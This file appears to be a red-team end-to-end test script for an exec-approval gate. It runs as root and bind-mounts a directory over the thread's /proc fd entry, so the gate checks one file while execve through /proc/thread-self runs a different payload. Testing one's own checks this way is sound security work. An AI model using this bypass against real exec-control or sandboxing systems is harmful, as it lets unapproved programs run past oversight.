"""Red team 4 (tests/e2e/test_attack_red4.py): ``/proc/thread-self/fd/N`` with a directory
bind-mounted over the caller's ``/proc/PID/task/PID/fd`` *in the session's own mount namespace*
(root, no sandbox; standard library only).

The backstop takes ``/proc/thread-self/fd/N`` for "thread TID's fd N" when the caller is in the
session's mount namespace and its ``/proc`` is a procfs, and reads it as ``/proc/TID/fd/N`` in
the server's ``/proc``. The kernel resolves ``/proc/thread-self`` to ``PID/task/TID``: a
different directory entry, over which root can mount a directory of its own (procfs entries are
mount points like any other). The server sees fd N (FILE); the kernel runs OVER/N (EVIL).

Usage:
    python3 qbe_fdover.py [--asked|--plain] FILE NAME EVIL ARGV0 [ARGV1 ...]
Prints ``MOUNTED``, then ``EXEC <errno name>`` on failure.
"""

from __future__ import annotations

import ctypes
import errno
import os
import sys

SYS_EXECVE = 59  # x86_64
MS_BIND = 0x1000


def main() -> None:
    mode, file, name, evil, argv = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:]
    with open(evil, "rb") as f:
        payload = f.read()
    fd = os.open(file, os.O_PATH | os.O_CLOEXEC)
    if mode == "--asked":
        from execgate.wrapper import client
        env = dict(os.environ)
        answer = client.request_decision(client.connect(env), name, argv, env, fd)
        print("ASKED", answer.action, flush=True)
    over = os.path.abspath(f"over-{os.getpid()}")
    os.mkdir(over)
    with open(f"{over}/{fd}", "wb") as f:
        f.write(payload)
    os.chmod(f"{over}/{fd}", 0o755)
    pid = os.getpid()
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    tid = libc.syscall(186)  # gettid
    target = f"/proc/{pid}/task/{tid}/fd".encode()
    if libc.mount(over.encode(), target, None, MS_BIND, None) != 0:
        print("MOUNT", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    print("MOUNTED", flush=True)
    cargv = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
    env = [f"{k}={v}".encode() for k, v in os.environ.items()]
    envp = (ctypes.c_char_p * (len(env) + 1))(*env, None)
    sys.stdout.flush()
    libc.syscall(ctypes.c_long(SYS_EXECVE), f"/proc/thread-self/fd/{fd}".encode(), cargv, envp)
    err = ctypes.get_errno()
    libc.umount2(target, 2)
    print("EXEC", errno.errorcode.get(err, err), flush=True)


if __name__ == "__main__":
    main()
